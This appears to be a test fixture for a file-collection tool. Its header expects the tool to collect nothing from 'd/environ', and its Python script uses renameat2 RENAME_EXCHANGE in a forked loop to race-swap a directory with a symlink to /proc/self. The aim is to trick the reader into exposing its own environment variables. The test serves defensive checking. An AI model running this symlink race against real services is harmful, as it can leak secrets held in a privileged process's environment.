# attack = "swaps a directory for a link to the reader's own /proc, on and on after its end"
# threats = [16, 36, 57]
# collect = ["d/environ", "d/*/environ"]
# outcome = "OK"
# files = []
# skipped = {}
# stdout = ""
import os
import time

from attack import syscall

AT_FDCWD, RENAME_EXCHANGE = -100, 2
os.mkdir("d")
os.symlink("/proc/self", "link")
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 10
    while time.monotonic() < end:
        syscall(316, AT_FDCWD, b"d", AT_FDCWD, b"link", RENAME_EXCHANGE)
    os._exit(0)
time.sleep(0.05)
